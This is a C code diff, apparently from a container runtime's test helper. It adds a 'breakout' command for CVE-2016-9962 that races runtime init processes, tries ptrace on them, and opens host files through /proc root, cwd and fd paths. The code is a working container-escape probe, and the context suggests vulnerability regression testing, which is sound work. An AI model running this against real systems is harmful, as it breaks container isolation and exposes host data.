@@ -71,6 +71,21 @@ static void spy_on(const char *pid)
         say("ptrace", "seized");
 }
 
+/* The process still has the name of a runtime, and is not what it will execute. */
+static int stage_name(const char *pid, char name[32])
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%s/comm", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    ssize_t length = fd < 0 ? -1 : read(fd, name, 31);
+    if (fd >= 0)
+        close(fd);
+    if (length <= 0)
+        return 0;
+    name[length - 1] = '\0';
+    return strcmp(name, "ocirun-init") == 0 || strncmp(name, "runc", 4) == 0 || strcmp(name, "crun") == 0 || strncmp(name, "exe", 3) == 0;
+}
+
 /* spy SECONDS: what this process can reach of the others in its pid namespace. Its last line says how many looks at one there were. */
 void do_spy(char **w, int n)
 {
@@ -91,6 +106,64 @@ void do_spy(char **w, int n)
             closedir(processes);
     } while (now() < end);
     say("looks", "%ld", looks);
+}
+
+/* A tracer of its own: what it has seized is free again when it exits. Seized after the program was executed is no crime. */
+static void try_ptrace(const char *pid)
+{
+    pid_t child = fork();
+    if (child == 0) {
+        char name[32] = "";
+        if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0 && stage_name(pid, name))
+            say("ptrace", "seized %s", name);
+        fflush(stdout);
+        _exit(0);
+    }
+    waitpid(child, NULL, 0);
+}
+
+static void try_open(const char *pid, const char *below, const char *target)
+{
+    char path[600];
+    snprintf(path, sizeof path, "/proc/%s/%s/../../../../../../../..%s", pid, below, target);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return;
+    say("out", "%s", path);
+    close(fd);
+}
+
+/* breakout SECONDS PATH: CVE-2016-9962. PATH is a file that only the host has. Each line but the last is something that worked; the last says how often a process was met
+ * that was not yet its program. */
+void do_breakout(char **w, int n)
+{
+    double end = now() + atof(w[0]);
+    long met = 0;
+    (void)n;
+    say(w[0], "ready");
+    fflush(stdout);
+    do {
+        DIR *processes = opendir("/proc");
+        for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
+            char name[32], path[300];
+            const char *pid = entry->d_name;
+            if (*pid < '1' || *pid > '9' || atoi(pid) == getpid())
+                continue;
+            try_open(pid, "root", w[1]);
+            try_open(pid, "cwd", w[1]);
+            for (int fd = 0; fd < 32; fd++) {
+                snprintf(path, sizeof path, "fd/%d", fd);
+                try_open(pid, path, w[1]);
+            }
+            if (stage_name(pid, name)) {
+                met++;
+                try_ptrace(pid);
+            }
+        }
+        if (processes != NULL)
+            closedir(processes);
+    } while (now() < end);
+    say("met", "%ld", met);
 }
 
 static void execute(char **words)
